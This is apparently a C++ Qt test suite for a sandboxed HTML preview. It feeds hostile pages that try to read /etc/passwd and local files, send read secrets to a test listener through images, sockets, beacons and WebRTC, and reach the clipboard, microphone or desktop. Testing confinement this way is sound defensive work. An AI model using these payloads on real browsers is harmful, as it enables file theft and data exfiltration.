#include <QApplication>
#include <QCheckBox>
#include <QDesktopServices>
#include <QDialog>
#include <QLineEdit>
#include <QTextBrowser>
#include <QTimer>
#include <filesystem>
#include <set>

#include "tests/qt/browser_fixture.h"

namespace kelvor::qt {
namespace {

using Heard = std::vector<std::string>;

/// In milliseconds; long enough for what a loaded page does to arrive, also on a busy machine.
constexpr int settlingTime = 300;
constexpr int frameTime = 1200;

class HostilePage : public Preview {
protected:
    /// Shows a page with a script in which HOST and BASE are the listener, `add` puts mark-up into the page and `got`
    /// notes what an attempt has brought, unless it is nothing.
    /// @param script  run once the page is loaded
    /// @return what was noted until `time` after that, in the order of the names
    std::string run(const std::string& body, const std::string& script, int time = settlingTime) {
        show("page.html", "<!doctype html><title>begun</title><body><script>const HOST = '" + listener_.address() +
                              "', BASE = 'http://' + HOST, noted = [];"
                              "const got = (name, what) => { if (what) noted.push(name) };"
                              "const add = html => document.body.insertAdjacentHTML('beforeend', html);"
                              "addEventListener('load', () => { setTimeout(() => { document.title = 'got:' + "
                              "noted.sort() }, " +
                              std::to_string(time) + ");" + script + "});</script>" + body);
        return titleOnce("got:");
    }
    Heard heardAfterAWhile() {
        QTest::qWait(settlingTime);
        return listener_.heard();
    }
};

TEST_F(HostilePage, GetsAtNoOtherTextOnTheDisk) {
    files_.write("secret.txt", "secret");
    files_.write("mine.html", "mine");
    EXPECT_EQ(run(R"html(
        <iframe id=f1 src="file:///etc/passwd" onload="got('frame', f1.contentDocument.body.innerText)"></iframe>
        <iframe id=f2 src="file:///etc/" onload="got('listing', f2.contentDocument.body.innerText)"></iframe>
        <iframe id=f3 src="." onload="got('own listing', f3.contentDocument.body.innerText)"></iframe>
        <iframe id=f4 src="secret.txt" onload="got('text beside', f4.contentDocument.body.innerText)"></iframe>
        <iframe id=f5 src="mine.html" onload="got('own frame', f5.contentDocument.body.innerText)"></iframe>
        <object id=o data="/etc/passwd" type="text/plain" onload="got('object', o.contentDocument.body.innerText)">
        </object>
        <link rel=stylesheet href="/etc/passwd" onload="got('style', true)">
        <img src="/usr/share/pixmaps/debian-logo.png" onload="got('picture', true)">
        <video><track default src="/etc/passwd" onload="got('track', true)"></video>
        <iframe sandbox=allow-scripts srcdoc="<script>fetch('file:///etc/passwd').then(r => r.text())
            .then(t => parent.postMessage(t, '*'))</script>"></iframe>
)html",
                  R"js(
            onmessage = e => got('frame without an origin', e.data);
            const text = r => r.text();
            fetch('file:///etc/passwd').then(text).then(t => got('fetch', t));
            fetch('secret.txt').then(text).then(t => got('fetch beside', t));
            const x = new XMLHttpRequest;
            x.onload = () => got('request', x.responseText);
            x.open('GET', 'file:///etc/passwd');
            x.send();
            const code = "fetch('file:///etc/passwd').then(r => r.text()).then(t => postMessage(t))";
            new Worker(URL.createObjectURL(new Blob([code]))).onmessage = e => got('worker', e.data);
        )js"),
              "got:own frame");
}

TEST_F(HostilePage, SendsNothing) {
    EXPECT_EQ(run("", "add(`<img src='${BASE}/picture'>`)"), "got:");
    EXPECT_EQ(heardAfterAWhile(), Heard{"GET /picture HTTP/1.1"}) << "the listener does not hear what it must";
    EXPECT_EQ(run(R"(<iframe id=bare sandbox="allow-scripts allow-top-navigation"></iframe>)", R"js(
            fetch(BASE + '/fetch', {mode: 'no-cors'}).then(() => got('fetch', true));
            const x = new XMLHttpRequest; x.open('POST', BASE + '/request'); x.send('x');
            new EventSource(BASE + '/event-source');
            new WebSocket('ws://' + HOST + '/socket').onopen = () => got('socket', true);
            navigator.sendBeacon(BASE + '/beacon', 'x');
            try { new WebTransport('https://' + HOST) } catch (e) {}
            for (const relation of ['prefetch', 'preconnect', 'prerender', 'manifest', 'icon'])
                add(`<link rel=${relation} href='${BASE}/${relation}'>`);
            add(`<iframe src='${BASE}/frame'></iframe><object data='${BASE}/object'></object>`);
            add(`<embed src='${BASE}/embed'><iframe name=inner></iframe>`);
            add(`<form id=framed method=post target=inner action='${BASE}/framed-form'><input name=a></form>`);
            framed.submit();
            const code = `fetch('${BASE}/worker', {mode: 'no-cors'}); new WebSocket('ws://${HOST}/worker-socket')`;
            new Worker(URL.createObjectURL(new Blob([code])));
            const inside = `<script>${code.replaceAll('worker', 'inside')}; try { top.location = '${BASE}/top' }
                catch (e) {} <\/script>`;
            bare.srcdoc = inside;
            add(`<iframe src="data:text/html,${inside}"></iframe>`);
            for (const scheme of ['stun', 'turn']) {
                const server = {urls: `${scheme}:${HOST}`, username: 'x', credential: 'y'};
                const peer = new RTCPeerConnection({iceServers: [server]});
                peer.createDataChannel('x');
                peer.createOffer().then(offer => peer.setLocalDescription(offer));
            }
            )js",
                  frameTime),
              "got:");
    EXPECT_EQ(heardAfterAWhile(), Heard());
    for (const char* leave : {
             "location = BASE",
             "add(`<form id=f method=post action='${BASE}'><input name=a value=b></form>`); f.submit()",
             "add(`<meta http-equiv=refresh content='0;url=${BASE}'>`)",
             "add(`<a id=a href='${BASE}'>x</a>`); a.click()",
             "add(`<a id=a href='#x' ping='${BASE}'>x</a>`); a.click()",
             "add(`<a id=a download href='${BASE}'>x</a>`); a.click()",
             "add(`<a id=a target=_blank href='${BASE}'>x</a>`); a.click(); got('window', open(BASE))",
         }) {
        EXPECT_EQ(run("", leave), "got:") << leave;
        EXPECT_EQ(heardAfterAWhile(), Heard()) << leave;
    }
}

TEST_F(HostilePage, SendsNothingOfAFrameThatItHasRead) {
    files_.write("other.html", "secret");
    EXPECT_EQ(run("<iframe id=f src=other.html></iframe>",
                  "const text = f.contentDocument.body.innerText; got(text, true); add(`<img src='${BASE}/${text}'>`)"),
              "got:secret");
    EXPECT_EQ(heardAfterAWhile(), Heard());
}

TEST_F(HostilePage, OpensNothingWritesNothingAndStartsNothing) {
    // Takes what the desktop would open.
    QTextBrowser desktop;
    const char* const schemes[] = {"mailto", "tel", "http", "file"};
    for (const char* scheme : schemes) QDesktopServices::setUrlHandler(scheme, &desktop, "setSource");
    const auto everything = [this] {
        std::set<std::string> names;
        for (const auto& entry : std::filesystem::recursive_directory_iterator(files_.path("")))
            names.insert(entry.path().string());
        return names;
    };
    EXPECT_EQ(run("", ""), "got:");
    const auto files = everything();
    const auto windows = QApplication::topLevelWidgets().size();
    EXPECT_EQ(run(R"html(<a id=m href="mailto:a@b.c">x</a><a id=t href="tel:1">x</a><input type=file id=f>
            <a id=d download="x.txt" href="data:,x">x</a>)html",
                  R"js(
            for (const part of [m, t, f, d]) part.click();
            got('window', open('page.html'));
            got('empty window', open());
            document.documentElement.requestFullscreen().then(() => got('full screen', true));
            navigator.clipboard?.readText().then(() => got('clipboard', true));
            got('paste', document.execCommand('paste'));
            navigator.geolocation.getCurrentPosition(() => got('place', true));
            Notification.requestPermission(answer => got('notification', answer == 'granted'));
            navigator.mediaDevices.getUserMedia({audio: true}).then(() => got('microphone', true));
            print(); moveTo(0, 0); close();)js"),
              "got:");
    EXPECT_EQ(desktop.source(), QUrl());
    for (const char* scheme : schemes) QDesktopServices::unsetUrlHandler(scheme);
    EXPECT_EQ(QApplication::topLevelWidgets().size(), windows);
    EXPECT_EQ(everything(), files);
}

TEST_F(HostilePage, ItsMessagesCanBeStopped) {
    int dialogs = 0;
    QTimer user;
    QObject::connect(&user, &QTimer::timeout, [&] {
        auto* dialog = qobject_cast<QDialog*>(QApplication::activeModalWidget());
        if (!dialog) return;
        ++dialogs;
        if (auto* line = dialog->findChild<QLineEdit*>(); line->isVisible()) line->setText(line->text() + "!");
        dialog->findChild<QCheckBox*>()->setChecked(dialogs == 3);
        dialog->accept();
    });
    user.start(10);
    EXPECT_EQ(run("",
                  "alert('one'); got('two', confirm('two')); got(prompt('three', 'x'), true);"
                  "for (let count = 0; count < 100; count++) alert(count); got('more', confirm('more'))"),
              "got:two,x!");
    EXPECT_EQ(dialogs, 3);
}

}  // namespace
}  // namespace kelvor::qt
